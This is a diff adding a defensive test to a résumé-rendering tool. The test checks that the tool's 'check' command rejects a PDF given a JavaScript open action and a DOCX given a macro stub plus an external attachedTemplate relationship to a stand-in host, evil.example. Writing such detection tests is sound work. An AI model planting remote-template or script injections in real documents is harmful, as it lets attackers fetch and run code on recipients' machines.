@@ -6,12 +6,16 @@ import io
 
 import docx
 from reportlab.pdfgen.canvas import Canvas
+from typer.testing import CliRunner
 
+from renderer.cli.app import app
 from renderer.compose.resume import compose
 from renderer.formats.plaintext import markdown_to_text
 from renderer.inputs import load_profile
 from renderer.theme.model import load_theme
 from tests.conftest import ROOT, check_bytes, document, rendered, write_profile
+
+runner = CliRunner()
 
 
 def _pdf(draw) -> bytes:
@@ -193,3 +197,49 @@ def test_check_takes_the_theme_from_the_file_name(tmp_path):
     assert failed.exit_code == 1 and "theme 'classic' (the default); give --theme" in failed.output
     fixed = runner.invoke(app, ["check", str(renamed), "--profile", profile, "-t", "modern"])
     assert fixed.exit_code == 0
+
+
+def test_check_rejects_active_content(tmp_path):
+    """A PDF with JavaScript, a DOCX with macros or a template fetched from elsewhere: files a
+    mail scanner or an ATS upload refuses, whatever their text."""
+    import io
+    import zipfile
+
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.actions import JavaScript
+
+    profile = ROOT / "profiles" / "rui-shao.yaml"
+    assert (
+        runner.invoke(
+            app, ["render", str(profile), "-f", "pdf,docx", "-o", str(tmp_path)]
+        ).exit_code
+        == 0
+    )
+    pdf, docx_file = next(tmp_path.rglob("*.pdf")), next(tmp_path.rglob("*.docx"))
+    clean = runner.invoke(app, ["check", str(pdf), str(docx_file), "--profile", str(profile)])
+    assert clean.exit_code == 0 and "scanners reject" not in clean.output, clean.output
+
+    writer = PdfWriter(clone_from=PdfReader(pdf))
+    writer.add_open_action(JavaScript("app.alert('hello');"))
+    with (tmp_path / "js.pdf").open("wb") as out:
+        writer.write(out)
+    result = runner.invoke(app, ["check", str(tmp_path / "js.pdf"), "--profile", str(profile)])
+    assert result.exit_code == 1 and "holds JavaScript" in result.output
+
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(docx_file) as source, zipfile.ZipFile(buffer, "w") as target:
+        for item in source.infolist():
+            data = source.read(item)
+            if item.filename == "word/_rels/document.xml.rels":
+                data = data.replace(
+                    b"</Relationships>",
+                    b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/'
+                    b'officeDocument/2006/relationships/attachedTemplate" '
+                    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+                )
+            target.writestr(item, data)
+        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
+    (tmp_path / "bad.docx").write_bytes(buffer.getvalue())
+    result = runner.invoke(app, ["check", str(tmp_path / "bad.docx"), "--profile", str(profile)])
+    assert result.exit_code == 1
+    assert "holds macros" in result.output and "attachedTemplate" in result.output
